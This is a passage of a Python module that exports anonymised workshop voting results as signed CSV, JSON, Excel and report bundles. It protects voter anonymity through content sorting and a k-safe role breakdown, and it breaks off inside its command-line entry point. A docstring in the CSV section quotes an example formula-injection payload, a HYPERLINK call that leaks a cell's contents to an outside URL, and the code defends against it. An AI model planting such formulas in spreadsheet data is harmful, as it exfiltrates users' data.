"""Export a revealed workshop for its evaluators: CSV, Excel, JSON, report, PDF, signed.

`collect` gathers everything once (only after the reveal); the builders turn that into files;
`build_bundle` writes them all with a `manifest.json` of SHA-256 digests, its Ed25519
signature and the public key, so `core.verify` can show that nothing was changed later.

What this module must never export, in any file: anything about one person. So no card code
or card digest, no sealed ballot, ballot id or blob, no ballot's role unless the role passed
the k threshold in a breakdown whose complement is also safe (see `k_safe_breakdown`), no
order that follows casting or storage (ballots, notes and receipts are sorted by content),
no receipt next to a ranking (receipts sit in their own list, sorted), and no timestamp.
CSV and JSON are byte-for-byte deterministic: the same workshop gives the same files.
"""

from __future__ import annotations

import argparse
import csv
import hashlib
import io
import json
import os
import secrets
import shutil
import stat
import sys
import tempfile
import time
import zipfile
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Final

from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from core import ballots, notes, results
from core.breakdown import Breakdown, Role, breakdown, points_share
from core.crypto import human_codes, signatures
from core.db import Database
from core.domain import Stage, WorkshopCode
from core.errors import BeiduiError
from core.i18n import LANGUAGES, Message, normalize_language, t
from core.robustness import summarize
from core.tally.methods.instant_runoff import IrvExplanation, instant_runoff_with_explanation
from core.tally.pairwise import Pairwise, pairwise
from core.tally.profile import CountingId, MethodId, position_counts
from core.tally.registry import COUNTING_METHODS, DEFAULT_COUNTING, tally_all
from core.tally.result import TallyResult
from core.workshops import WorkshopView, get_workshop

FORMAT: Final = "beidui-results/1"
MANIFEST_FORMAT: Final = "beidui-export/1"
MANIFEST_NAME: Final = "manifest.json"
SIGNATURE_NAME: Final = "manifest.sig"
PUBLIC_KEY_NAME: Final = "public_key.pem"
SIGNING_KEY_FILE: Final = "signing.key"

RANKINGS_CSV: Final = "rankings.csv"
TALLY_CSV: Final = "tally.csv"
NOTES_CSV: Final = "notes.csv"
RECEIPTS_CSV: Final = "receipts.csv"
BREAKDOWN_CSV: Final = "breakdown.csv"
SHARES_CSV: Final = "shares.csv"
ROLE_GRID_CSV: Final = "role_grid.csv"
BALLOTS_LONG_CSV: Final = "ballots_long.csv"
THEMES_CSV: Final = "themes.csv"
SUMMARY_POINTS_CSV: Final = "summary_points.csv"
CODEBOOK_CSV: Final = "codebook.csv"
RESULTS_SCHEMA: Final = "results.schema.json"
HEAD_TO_HEAD_CSV: Final = "head_to_head.csv"
RESULTS_JSON: Final = "results.json"
RESULTS_XLSX: Final = "results.xlsx"
CHART_PNG: Final = "chart.png"
REPORT_HTML: Final = "report.html"
REPORT_PDF: Final = "report.pdf"

OTHER_GROUP: Final = "other"
"""The key the merged group of small/no roles gets in exported files."""

ProgressCallback = Callable[[float, str], None]


class NotRevealed(BeiduiError):
    """The workshop's ballots are still sealed (or not cast): nothing to export yet."""

    key = "export.errors.not_revealed"


# --- the gathered data --------------------------------------------------------------------


@dataclass(frozen=True)
class NoteRow:
    """One note as exported: its question's position (0-based), text, theme, dots, hidden."""

    question: int
    text: str
    theme: str | None
    dots: int
    is_hidden: bool


@dataclass(frozen=True)
class QuestionExport:
    position: int
    text_zh: str
    text_en: str
    themes: tuple[str, ...]
    summary_points: tuple[str, ...]
    notes: tuple[NoteRow, ...]

    def text(self, lang: str) -> str:
        return self.text_en if lang == "en" else self.text_zh


@dataclass(frozen=True)
class Counts:
    """Counts only: how many ballots, how many cards were issued and spent."""

    ballots: int
    cards_issued: int
    cards_spent: int


@dataclass(frozen=True)
class MethodShare:
    """One method's shares of a set of ballots (the room, or one role group).

    `points_pct`: its points as a percentage of all points given; `first_pct`: ballots
    ranking it first, `chosen_pct`: ballots ranking it at all, both as a percentage of the
    ballots; `average_score`: Slido's "average ranked score", the points it earned per
    ballot (K for 1st … 1 for K-th, 0 when unranked), so between 0 and K. Percentages have
    one decimal, the average two, rounded half to even, so files repeat byte for byte.
    """

    method: MethodId
    points: int
    points_pct: float
    first_choices: int
    first_pct: float
    chosen: int
    chosen_pct: float
    average_score: float


def method_shares(
    rankings: Sequence[Sequence[MethodId]], methods: Sequence[MethodId], ballot_size: int
) -> tuple[MethodShare, ...]:
    """Every method's shares, in `methods` order (callers sort as they show them)."""
    counts = position_counts(rankings, methods, ballot_size)
    n = len(rankings)
    points = {m: sum(c * (ballot_size - i) for i, c in enumerate(counts[m])) for m in methods}
    total = sum(points.values())

    def pct(part: int, whole: int) -> float:
        return round(100 * part / whole, 1) if whole else 0.0

    return tuple(
        MethodShare(
            method=m,
            points=points[m],
            points_pct=pct(points[m], total),
            first_choices=counts[m][0],
            first_pct=pct(counts[m][0], n),
            chosen=sum(counts[m]),
            chosen_pct=pct(sum(counts[m]), n),
            average_score=round(points[m] / n, 2) if n else 0.0,
        )
        for m in methods
    )


@dataclass(frozen=True)
class ExportData:
    """Everything an export may contain, already safe to show in full.

    `rankings` are sorted by content; `breakdown` passed `k_safe_breakdown`; `receipts` are
    sorted and carry no link to any ranking.
    """

    workshop: WorkshopView
    rankings: tuple[tuple[MethodId, ...], ...]
    tallies: Mapping[CountingId, TallyResult]
    irv: IrvExplanation
    robustness: tuple[Message, ...]
    shares: tuple[MethodShare, ...]
    """The whole room's shares, in the default counting's order."""
    head_to_head: Pairwise
    breakdown: Breakdown
    questions: tuple[QuestionExport, ...]
    receipts: tuple[str, ...]
    counts: Counts
    revealed_on: str
    """The day the ballots were revealed (ISO date, UTC): the workshop's date in the
    report. A day, never a time: nothing finer may follow the room's timeline."""

    @property
    def default_result(self) -> TallyResult:
        return self.tallies[DEFAULT_COUNTING]

    def labels(self, lang: str) -> dict[MethodId, str]:
        return self.workshop.method_labels(lang)

    def role_labels(self, lang: str) -> dict[Role, str]:
        return {r.key: r.label.get(lang) for r in self.workshop.roles}


def k_safe_breakdown(
    ballots_with_roles: Sequence[tuple[Role | None, Sequence[MethodId]]],
    methods: Sequence[MethodId],
    ballot_size: int | None,
    *,
    k: int,
    counting: CountingId = DEFAULT_COUNTING,
    offered: Sequence[Role] = (),
    merged_before: Sequence[Role] = (),
) -> Breakdown:
    """The role breakdown exports use: `core.breakdown.breakdown`, which also resists
    differencing (what it does not show is empty or holds at least k ballots)."""
    return breakdown(
        ballots_with_roles,
        methods,
        ballot_size,
        k=k,
        counting=counting,
        offered=offered,
        merged_before=merged_before,
    )


def collect(db: Database, code: WorkshopCode) -> ExportData:
    """Gather a revealed workshop's data; `NotRevealed` before the reveal."""
    w = get_workshop(db, code)
    if w.stage != Stage.REVEALED:
        raise NotRevealed(f"workshop {w.code} is {w.stage.value}", stage=w.stage.value)
    opened = results.opened_rankings(db, w.code)
    final = results.published_results(db, w.code)
    with_roles = [(role or None, tuple(ranking)) for role, ranking in opened]
    # Sorted by content, whatever order storage gave: row order must never follow casting.
    rankings = tuple(sorted(ranking for _, ranking in with_roles))
    methods = w.method_keys
    tallies = tally_all(rankings, methods, w.ballot_size)
    _, irv = instant_runoff_with_explanation(rankings, methods, w.ballot_size)
    head_to_head = pairwise(rankings, methods, w.ballot_size)
    # "Close" = a lead no bigger than what one ballot's first choice is worth (K points).
    robustness = (
        tuple(summarize(tallies, close_within=w.ballot_size, pairwise=head_to_head))
        if rankings
        else ()
    )
    order = tallies[DEFAULT_COUNTING].order
    by_method = {s.method: s for s in method_shares(rankings, methods, w.ballot_size)}
    shares = tuple(by_method[m] for m in order)
    safe = k_safe_breakdown(
        sorted(with_roles, key=lambda pair: (pair[0] or "", pair[1])),
        methods,
        w.ballot_size,
        k=w.anonymity_k,
        offered=[r.key for r in w.roles],
        merged_before=final.roles_merged if final is not None else (),
    )
    questions = tuple(_question(db, w.code, q.position, q.text.zh, q.text.en) for q in w.questions)
    cards = ballots.card_counts(db, w.code)
    return ExportData(
        workshop=w,
        rankings=rankings,
        tallies=tallies,
        irv=irv,
        robustness=robustness,
        shares=shares,
        head_to_head=head_to_head,
        breakdown=safe,
        questions=questions,
        receipts=tuple(sorted(results.receipts(db, w.code))),
        counts=Counts(len(rankings), cards.issued, cards.spent),
        revealed_on=_revealed_on(db, w.code),
    )


def _revealed_on(db: Database, code: WorkshopCode) -> str:
    from sqlalchemy import select

    from core.models import Workshop

    with db.read.begin() as session:
        changed = session.scalar(select(Workshop.stage_changed_at).where(Workshop.code == code))
    # Revealed is the last stage, so the last stage change is the reveal (minute precision).
    return changed.date().isoformat() if changed is not None else ""


def _question(db: Database, code: WorkshopCode, position: int, zh: str, en: str) -> QuestionExport:
    # Pending notes (still waiting for a batch of k) are left out: the last few notes of a
    # question are exactly the ones someone may remember seeing being typed.
    wall = notes.wall(db, code, position, include_hidden=True, include_pending=False)
    rows = tuple(
        sorted(
            (
                NoteRow(position, n.text, n.theme_name or None, int(n.dots), bool(n.is_hidden))
                for n in wall
                if not n.is_pending
            ),
            key=_note_order,
        )
    )
    themes = tuple(th.name for th in notes.themes(db, code, position))  # facilitator order
    points = tuple(notes.summary_points(db, code, position))
    return QuestionExport(position, zh, en, themes, points, rows)


def _note_order(n: NoteRow) -> tuple[int, bool, str, int, str, bool]:
    # By content only (question, theme, most dots first, text), never storage order.
    return (n.question, n.theme is None, n.theme or "", -n.dots, n.text, n.is_hidden)


# --- tables (shared by CSV, Excel and the report) -----------------------------------------

Cell = str | int | float | bool


@dataclass(frozen=True)
class Table:
    """A table twice headed: `keys` for machines (CSV), `headers` for people (Excel)."""

    keys: tuple[str, ...]
    headers: tuple[str, ...]
    rows: tuple[tuple[Cell, ...], ...]


def _h(name: str, lang: str, **params: Any) -> str:
    return t(f"export.header.{name}", lang, **params)


def _counting_name(counting: CountingId, lang: str) -> str:
    return t(COUNTING_METHODS[counting].name_key, lang)


def rankings_table(data: ExportData, lang: str) -> Table:
    """One row per ballot, sorted by content: rank n's method key, then its label."""
    size = data.workshop.ballot_size
    labels = data.labels(lang)
    keys: list[str] = []
    headers: list[str] = []
    for n in range(1, size + 1):
        keys += [f"rank_{n}", f"rank_{n}_label"]
        headers += [_h("rank_n_key", lang, n=n), _h("rank_n", lang, n=n)]
    rows = []
    for ranking in data.rankings:
        row: list[Cell] = []
        for n in range(size):
            method = ranking[n] if n < len(ranking) else ""
            row += [method, labels.get(method, method) if method else ""]
        rows.append(tuple(row))
    return Table(tuple(keys), tuple(headers), tuple(rows))


def tally_table(data: ExportData, lang: str) -> Table:
    """Every counting method x every method: rank, score, tied."""
    labels = data.labels(lang)
    rows = tuple(
        (
            counting,
            _counting_name(counting, lang),
            row.rank,
            row.method,
            labels[row.method],
            row.score,
            row.is_tied,
        )
        for counting, result in data.tallies.items()
        for row in result.rows()
    )
    return Table(
        ("counting", "counting_name", "rank", "method", "method_label", "score", "tied"),
        tuple(
            _h(n, lang)
            for n in ("counting_key", "counting", "rank", "method_key", "method", "score", "tied")
        ),
        rows,
    )


def shares_table(data: ExportData, lang: str) -> Table:
    """Per method, in the default counting's order: points, shares, average ranked score."""
    labels = data.labels(lang)
    names = (
        "method",
        "method_label",
        "points",
        "points_pct",
        "first_choices",
        "first_pct",
        "chosen",
        "chosen_pct",
        "average_score",
    )
    rows = tuple(
        (
            s.method,
            labels[s.method],
            s.points,
            s.points_pct,
            s.first_choices,
            s.first_pct,
            s.chosen,
            s.chosen_pct,
            s.average_score,
        )
        for s in data.shares
    )
    headers = ("method_key", "method", *names[2:])
    return Table(names, tuple(_h(n, lang, k=data.workshop.ballot_size) for n in headers), rows)


def head_to_head_table(data: ExportData, lang: str) -> Table:
    """Every pair of methods once (the better-placed one first): ballots preferring each."""
    labels = data.labels(lang)
    pw = data.head_to_head
    order = data.default_result.order
    rows = []
    for i, a in enumerate(order):
        for b in order[i + 1 :]:
            ia, ib = pw.methods.index(a), pw.methods.index(b)
            rows.append(
                (a, labels[a], b, labels[b], pw.prefer[ia][ib], pw.prefer[ib][ia], pw.margin(a, b))
            )
    names = ("method_a", "method_a_label", "method_b", "method_b_label", "a_over_b", "b_over_a")
    keys = (*names, "margin")
    return Table(keys, tuple(_h(n, lang) for n in keys), tuple(rows))


def notes_table(data: ExportData, lang: str) -> Table:
    """Notes by question, theme, dots (most first), text; hidden ones flagged, not dropped."""
    rows = tuple(
        (n.question + 1, q.text(lang), n.text, n.theme or "", n.dots, n.is_hidden)
        for q in data.questions
        for n in q.notes
    )
    return Table(
        ("question", "question_text", "note", "theme", "dots", "hidden"),
        tuple(_h(n, lang) for n in ("question_no", "question", "note", "theme", "dots", "hidden")),
        rows,
    )


def ballots_long_table(data: ExportData, lang: str) -> Table:
    """Tidy ballots: one row per opened ballot x rank. `ballot` numbers the ballots in
    their sorted (content) order, so it says nothing about when any ballot was cast."""
    labels = data.labels(lang)
    rows = tuple(
        (number, rank, method, labels.get(method, method), len(ranking))
        for number, ranking in enumerate(data.rankings, start=1)
        for rank, method in enumerate(ranking, start=1)
    )
    keys = ("ballot", "rank", "method", "method_label", "ballot_length")
    headers = ("ballot_no", "rank", "method_key", "method", "ballot_length")
    return Table(keys, tuple(_h(n, lang) for n in headers), rows)


def themes_table(data: ExportData, lang: str) -> Table:
    """Per question and theme (facilitator order): its visible notes and their dots."""
    rows = tuple(
        (
            q.position + 1,
            q.text(lang),
            theme,
            sum(1 for n in q.notes if n.theme == theme and not n.is_hidden),
            sum(n.dots for n in q.notes if n.theme == theme and not n.is_hidden),
        )
        for q in data.questions
        for theme in q.themes
    )
    keys = ("question", "question_text", "theme", "notes", "dots")
    headers = ("question_no", "question", "theme", "notes", "dots")
    return Table(keys, tuple(_h(n, lang) for n in headers), rows)


def summary_points_table(data: ExportData, lang: str) -> Table:
    """Per question, its summary points in the facilitator's order."""
    rows = tuple(
        (q.position + 1, q.text(lang), number, point)
        for q in data.questions
        for number, point in enumerate(q.summary_points, start=1)
    )
    keys = ("question", "question_text", "point", "text")
    headers = ("question_no", "question", "point_no", "text")
    return Table(keys, tuple(_h(n, lang) for n in headers), rows)


def receipts_table(data: ExportData, lang: str) -> Table:
    return Table(("receipt",), (_h("receipt", lang),), tuple((r,) for r in data.receipts))


def group_name(role: Role | None, data: ExportData, lang: str) -> str:
    if role is None:
        return t("export.participation.other_group", lang)
    return data.role_labels(lang).get(role, role)


def breakdown_table(data: ExportData, lang: str) -> Table:
    """The k-safe breakdown (default counting): group, its ballots, rank, method, score,
    the method's share of the group's points and its average ranked score in the group."""
    labels = data.labels(lang)
    rows = tuple(
        (
            g.role or OTHER_GROUP,
            group_name(g.role, data, lang),
            g.ballot_count,
            row.rank,
            row.method,
            labels[row.method],
            row.score,
            points_share(g.result, row.method),
            round(row.score / g.ballot_count, 2),
            row.is_tied,
        )
        for g in data.breakdown.groups
        for row in g.result.rows()
    )
    keys = (
        "group",
        "group_label",
        "ballots",
        "rank",
        "method",
        "method_label",
        "score",
        "points_pct",
        "average_score",
        "tied",
    )
    headers = ("group_key", "group", *keys[2:4], "method_key", "method", *keys[6:])
    k = data.workshop.ballot_size
    return Table(keys, tuple(_h(n, lang, k=k) for n in headers), rows)


def role_grid_table(data: ExportData, lang: str) -> Table:
    """Methods (rows, the room's order) x shown groups (columns): each method's share (%)
    of the group's points, with the whole room last for comparison."""
    labels = data.labels(lang)
    groups = data.breakdown.groups
    room = {s.method: s.points_pct for s in data.shares}
    rows: tuple[tuple[Cell, ...], ...] = tuple(
        (m, labels[m], *(points_share(g.result, m) for g in groups), room[m])
        for m in data.default_result.order
    )
    keys = ("method", "method_label", *(g.role or OTHER_GROUP for g in groups), "room")
    headers = (
        _h("method_key", lang),
        _h("method", lang),
        *(
            t(
                "export.roles.group_column",
                lang,
                group=group_name(g.role, data, lang),
                n=g.ballot_count,
            )
            for g in groups
        ),
        t("export.roles.room_column", lang, n=data.counts.ballots),
    )
    return Table(keys, headers, rows)


# --- CSV ----------------------------------------------------------------------------------

FORMULA_TRIGGERS: Final = ("=", "+", "-", "@", "\t", "\r")
"""First characters that make Excel, LibreOffice or Google Sheets read a cell as a formula
(OWASP "CSV injection"): `=HYPERLINK("https://x/?leak="&A1, "…")` in an anonymous note
would send another cell's contents out when clicked."""


def is_formula_like(text: str) -> bool:
    """Whether a spreadsheet would treat `text` as a formula rather than as text."""
    return text.startswith(FORMULA_TRIGGERS)


def neutralise_csv_text(text: str) -> str:
    """A CSV cell a spreadsheet shows as text: OWASP's leading apostrophe when needed.

    Every typed text (notes, themes, summary points, method and role names, the workshop
    name) passes through here; numbers are written by `_csv_cell` and never start with a
    trigger (scores are not negative). The apostrophe is what Excel itself stores when a
    person types '=…, so the text reads back unchanged after it.
    """
    return "'" + text if is_formula_like(text) else text


def _csv_cell(value: Cell) -> str:
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int | float):
        return str(value)
    return neutralise_csv_text(value)


def table_to_csv(table: Table) -> bytes:
    """UTF-8 with a BOM (Excel then opens Chinese correctly), CRLF rows, machine headers."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow(table.keys)
    writer.writerows([_csv_cell(c) for c in row] for row in table.rows)
    return buffer.getvalue().encode("utf-8-sig")


CSV_TABLES: Final[Mapping[str, Callable[[ExportData, str], Table]]] = {
    RANKINGS_CSV: rankings_table,
    BALLOTS_LONG_CSV: ballots_long_table,
    TALLY_CSV: tally_table,
    SHARES_CSV: shares_table,
    HEAD_TO_HEAD_CSV: head_to_head_table,
    BREAKDOWN_CSV: breakdown_table,
    ROLE_GRID_CSV: role_grid_table,
    NOTES_CSV: notes_table,
    THEMES_CSV: themes_table,
    SUMMARY_POINTS_CSV: summary_points_table,
    RECEIPTS_CSV: receipts_table,
}
"""Every CSV file and the table it holds, in the codebook's order."""


def build_csv(data: ExportData, lang: str) -> dict[str, bytes]:
    """The CSV files by name, and the codebook describing every column of each."""
    files = {name: table_to_csv(build(data, lang)) for name, build in CSV_TABLES.items()}
    files[CODEBOOK_CSV] = table_to_csv(codebook_table(data, lang))
    return files


_COLUMN_TYPES: Final[Mapping[str, str]] = {
    **dict.fromkeys(
        (
            "rank",
            "score",
            "dots",
            "question",
            "ballots",
            "points",
            "first_choices",
            "chosen",
            "a_over_b",
            "b_over_a",
            "margin",
            "ballot",
            "ballot_length",
            "notes",
            "point",
        ),
        "integer",
    ),
    **dict.fromkeys(("points_pct", "first_pct", "chosen_pct", "average_score", "room"), "number"),
    **dict.fromkeys(("tied", "hidden"), "boolean"),
    **dict.fromkeys(("method", "method_a", "method_b", "counting", "group"), "code"),
}
"""Each column's type; every other column is text. A role-grid group column is a number."""


def _values(column: str, data: ExportData, lang: str) -> str:
    """The values a coded column takes, "code = meaning; …" (empty for free columns)."""
    sep = "; "
    if column in {"method", "method_a", "method_b"} or column.startswith("rank_"):
        if column.endswith("_label"):
            return ""
        return sep.join(f"{k} = {v}" for k, v in data.labels(lang).items())
    if column == "counting":
        return sep.join(f"{c} = {_counting_name(c, lang)}" for c in COUNTING_METHODS)
    if column == "group":
        groups = [g.role for g in data.breakdown.groups]
        return sep.join(f"{g or OTHER_GROUP} = {group_name(g, data, lang)}" for g in groups)
    if column == "question":
        return sep.join(f"{q.position + 1} = {q.text(lang)}" for q in data.questions)
    if column in {"tied", "hidden"}:
        return "true; false"
    return ""


def codebook_table(data: ExportData, lang: str) -> Table:
    """Every column of every CSV file: its type, what it means, and the values it takes."""
    rows: list[tuple[Cell, ...]] = []
    for name, build in CSV_TABLES.items():
        table = build(data, lang)
        for key, header in zip(table.keys, table.headers, strict=True):
            if key.startswith("rank_"):
                generic = "rank_n_label" if key.endswith("_label") else "rank_n"
                n = key.split("_")[1]
                kind = "text" if key.endswith("_label") else "code"
                meaning = t(f"export.codebook.{generic}", lang, n=n)
            elif name == ROLE_GRID_CSV and key not in {"method", "method_label", "room"}:
                kind, meaning = "number", t("export.codebook.group_share", lang, group=header)
            else:
                kind = _COLUMN_TYPES.get(key, "text")
                meaning = t(f"export.codebook.{key}", lang, k=data.workshop.ballot_size)
            rows.append((name, key, header, kind, meaning, _values(key, data, lang)))
    keys = ("file", "column", "header", "type", "description", "values")
    return Table(keys, tuple(_h(f"codebook_{k}", lang) for k in keys), tuple(rows))


# --- JSON ---------------------------------------------------------------------------------


def _bilingual(key: str) -> dict[str, str]:
    return {lang: t(key, lang) for lang in LANGUAGES}


def _result_json(result: TallyResult) -> dict[str, Any]:
    return {
        "ballot_count": result.ballot_count,
        "ranks": [{"rank": rank, "methods": list(group)} for rank, group in result.ranks],
        "scores": dict(result.scores),
    }


def json_document(data: ExportData) -> dict[str, Any]:
    """The whole workshop as plain data: enough to recount every ballot independently."""
    w = data.workshop
    return {
        "format": FORMAT,
        "workshop": {
            "code": w.code,
            "name": w.name,
            "template": w.template_key,
            "ballot_size": w.ballot_size,
            "anonymity_k": w.anonymity_k,
            "is_open_mode": w.is_open_mode,
            "is_live_results": w.is_live_results,
            "revealed_on": data.revealed_on,
        },
        "questions": [
            {
                "number": q.position + 1,
                "text": {"zh": q.text_zh, "en": q.text_en},
                "themes": list(q.themes),
                "summary_points": list(q.summary_points),
                "notes": [
                    {"text": n.text, "theme": n.theme, "dots": n.dots, "is_hidden": n.is_hidden}
                    for n in q.notes
                ],
            }
            for q in data.questions
        ],
        "methods": [
            {
                "key": m.key,
                "label": {"zh": m.label.zh, "en": m.label.en},
                "description": {"zh": m.description.zh, "en": m.description.en},
            }
            for m in w.methods
        ],
        "roles_shown": [
            {"key": g.role or OTHER_GROUP, "ballot_count": g.ballot_count}
            for g in data.breakdown.groups
        ],
        "counting": {
            "default": DEFAULT_COUNTING,
            "methods": {
                c: {"name": _bilingual(m.name_key), "description": _bilingual(m.description_key)}
                for c, m in COUNTING_METHODS.items()
            },
            "irv_tie_rule": _bilingual(data.irv.tie_rule.key),
        },
        "counts": {
            "ballots": data.counts.ballots,
            "cards_issued": data.counts.cards_issued,
            "cards_spent": data.counts.cards_spent,
        },
        "ballots": [list(r) for r in data.rankings],
        "tallies": {c: _result_json(r) for c, r in data.tallies.items()},
        "shares": [
            {
                "method": s.method,
                "points": s.points,
                "points_pct": s.points_pct,
                "first_choices": s.first_choices,
                "first_pct": s.first_pct,
                "chosen": s.chosen,
                "chosen_pct": s.chosen_pct,
                "average_score": s.average_score,
            }
            for s in data.shares
        ],
        "head_to_head": {
            "methods": list(data.head_to_head.methods),
            "prefer": [list(row) for row in data.head_to_head.prefer],
        },
        "breakdown": {
            "k": data.breakdown.k,
            "counting": data.breakdown.counting,
            "roles_offered": [r.key for r in w.roles],
            "roles_shown": list(data.breakdown.plan.shown),
            "roles_too_small": list(data.breakdown.plan.too_small),
            "roles_merged_against_subtraction": list(
                data.breakdown.plan.merged_against_subtraction
            ),
            "groups": [
                {
                    "group": g.role or OTHER_GROUP,
                    **_result_json(g.result),
                    "points_pct": {m: points_share(g.result, m) for m in g.result.scores},
                }
                for g in data.breakdown.groups
            ],
        },
        "receipts": list(data.receipts),
    }


def build_json(data: ExportData) -> bytes:
    """Deterministic: sorted keys, canonical ballot order, no timestamp, trailing newline."""
    text = json.dumps(json_document(data), ensure_ascii=False, sort_keys=True, indent=2)
    return (text + "\n").encode("utf-8")


# --- signing ------------------------------------------------------------------------------


def signing_key_path(data_dir: Path) -> Path:
    """Where the instance keeps its export signing key (next to the instance secret)."""
    return data_dir / "secrets" / SIGNING_KEY_FILE


def load_or_create_signing_key(path: Path) -> Ed25519PrivateKey:
    """The instance's Ed25519 export key: read, or created once (PEM, owner-only, atomic).

    Two processes starting at once agree on one key because the file is linked into place
    only if absent; an existing key is never replaced, since evaluators compare fingerprints
    across workshops.
    """
    if not path.exists():
        path.parent.mkdir(mode=0o700, parents=True, exist_ok=True)
        tmp = path.with_name(f".{path.name}.{secrets.token_hex(8)}.tmp")
        fd = os.open(tmp, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600)
        try:
            os.fchmod(fd, 0o600)  # the umask can only remove bits; make the mode exact
            os.write(fd, signatures.signing_key_to_pem(signatures.new_signing_key()))
            os.fsync(fd)
        finally:
            os.close(fd)
        try:
            os.link(tmp, path)
        except FileExistsError:
            pass
        finally:
            tmp.unlink()
    if path.stat().st_mode & (stat.S_IRWXG | stat.S_IRWXO):
        os.chmod(path, 0o600)  # readable by others: at least stop it spreading further
    return signatures.signing_key_from_pem(path.read_bytes())


def manifest_bytes(files: Mapping[str, bytes], code: WorkshopCode, fingerprint: str) -> bytes:
    """The manifest: SHA-256 and size of every file, sorted by name; what the signature covers."""
    document = {
        "format": MANIFEST_FORMAT,
        "workshop": code,
        "signing_key_fingerprint": fingerprint,
        "files": {
            name: {"sha256": hashlib.sha256(content).hexdigest(), "size": len(content)}
            for name, content in sorted(files.items())
        },
    }
    return (json.dumps(document, sort_keys=True, indent=2) + "\n").encode("utf-8")


def signing_fingerprint(signing_key: Ed25519PrivateKey) -> str:
    return human_codes.fingerprint(signing_key.public_key())


def instance_fingerprint(data_dir: Path) -> str:
    """The fingerprint every bundle of this instance is signed with, for public pages (the
    receipts page, the projector), so a third party can pin the key an evaluator's bundle
    must carry: `python -m core.verify BUNDLE --fingerprint XXXX-…`. The key is created
    here if no export made it yet; only its public half's fingerprint leaves."""
    return signing_fingerprint(load_or_create_signing_key(signing_key_path(data_dir)))


# --- the bundle ---------------------------------------------------------------------------


def bundle_name(code: WorkshopCode, lang: str) -> str:
    return f"beidui-{code}-{lang}"


def build_files(
    data: ExportData,
    lang: str,
    fingerprint: str,
    on_progress: ProgressCallback | None = None,
) -> dict[str, bytes]:
    """Every exported file by name (not the manifest, signature or key)."""
    from core import export_report, export_schema, export_xlsx

    lang = normalize_language(lang)

    def step(fraction: float, key: str) -> None:
        if on_progress is not None:
            on_progress(fraction, t(f"export.progress.{key}", lang))

    step(0.15, "csv")
    files = build_csv(data, lang)
    step(0.2, "json")
    files[RESULTS_JSON] = build_json(data)
    files[RESULTS_SCHEMA] = export_schema.build_schema()
    step(0.25, "chart")
    chart = export_report.chart_png(data.default_result, data.labels(lang), lang)
    files[CHART_PNG] = chart
    files.update(export_report.chart_files(data))
    step(0.4, "xlsx")
    files[RESULTS_XLSX] = export_xlsx.build_xlsx(data, lang, chart)
    step(0.55, "html")
    files[REPORT_HTML] = export_report.build_html(data, lang, fingerprint)
    step(0.7, "pdf")
    files[REPORT_PDF] = export_report.build_pdf(data, lang, fingerprint, chart)
    return files


def build_bundle(
    db: Database,
    code: WorkshopCode,
    out_dir: Path,
    lang: str,
    signing_key: Ed25519PrivateKey,
    on_progress: ProgressCallback | None = None,
) -> Path:
    """Write every export plus the signed manifest into `out_dir/beidui-<code>-<lang>/`.

    The bundle is first written to a temporary folder next to it and moved into place, so a
    reader never sees half a bundle. A previous bundle of the same name is replaced; any
    other folder in the way is left alone (`FileExistsError`).
    """
    lang = normalize_language(lang)
    if on_progress is not None:
        on_progress(0.0, t("export.progress.collect", lang))
    data = collect(db, code)
    fingerprint = signing_fingerprint(signing_key)
    files = build_files(data, lang, fingerprint, on_progress)
    if on_progress is not None:
        on_progress(0.9, t("export.progress.sign", lang))
    manifest = manifest_bytes(files, data.workshop.code, fingerprint)
    files[MANIFEST_NAME] = manifest
    files[SIGNATURE_NAME] = signatures.sign(signing_key, manifest)
    files[PUBLIC_KEY_NAME] = signatures.public_key_to_pem(signing_key.public_key())

    out_dir.mkdir(parents=True, exist_ok=True)
    target = out_dir / bundle_name(data.workshop.code, lang)
    staging = Path(tempfile.mkdtemp(prefix=".export-", dir=out_dir))
    try:
        for name, content in sorted(files.items()):
            (staging / name).write_bytes(content)
        if target.exists():
            if not (target / MANIFEST_NAME).is_file():
                raise FileExistsError(target)
            shutil.rmtree(target)
        staging.rename(target)
    except BaseException:
        shutil.rmtree(staging, ignore_errors=True)
        raise
    if on_progress is not None:
        on_progress(1.0, t("export.progress.done", lang))
    return target


_ZIP_EPOCH: Final = (1980, 1, 1, 0, 0, 0)


def bundle_zip(bundle: Path) -> bytes:
    """The bundle as one zip for a download button: sorted names, fixed dates, no folders."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for path in sorted(p for p in bundle.iterdir() if p.is_file()):
            info = zipfile.ZipInfo(f"{bundle.name}/{path.name}", date_time=_ZIP_EPOCH)
            info.compress_type = zipfile.ZIP_DEFLATED
            info.external_attr = 0o644 << 16
            archive.writestr(info, path.read_bytes())
    return buffer.getvalue()


@dataclass(frozen=True)
class Downloads:
    """A signed bundle held in memory for a download page: each file and the whole zip."""

    bundle_name: str
    files: Mapping[str, bytes]
    zip_bytes: bytes
    fingerprint: str


def prepare_downloads(
    db: Database,
    secret_key: bytes,
    data_dir: Path,
    code: WorkshopCode,
    grant: str,
    lang: str,
    on_progress: ProgressCallback | None = None,
) -> Downloads:
    """The results page's one action: check the console grant, build the signed bundle with
    the instance's signing key, and return it in memory (nothing is left on disk)."""
    from core.workshops import check_grant

    check_grant(db, secret_key, code, grant)
    signing_key = load_or_create_signing_key(signing_key_path(data_dir))
    with tempfile.TemporaryDirectory(prefix="beidui-export-") as tmp:
        bundle = build_bundle(db, code, Path(tmp), lang, signing_key, on_progress)
        files = {p.name: p.read_bytes() for p in sorted(bundle.iterdir()) if p.is_file()}
        return Downloads(bundle.name, files, bundle_zip(bundle), signing_fingerprint(signing_key))


# --- command line -------------------------------------------------------------------------


def main(argv: Sequence[str] | None = None) -> int:
    """`python -m core.export CODE --out DIR [--lang zh|en]`: print the bundle's path."""
    from core.config import settings_from_env
    from core.instance import open_instance

    parser = argparse.ArgumentParser(prog="python -m core.export")
    parser.add_argument("code")
    parser.add_argument("--out", required=True, type=Path)
    parser.add_argument("--lang", choices=LANGUAGES, default="zh")
    args = parser.parse_args(argv)
    settings = settings_from_env()
    instance = open_instance(settings)
    try:
        key = load_or_create_signing_key(signing_key_path(settings.data_dir))
        started = time.perf_counter()
        path = build_bundle(instance.db, args.code, args.out, args.lang, key)
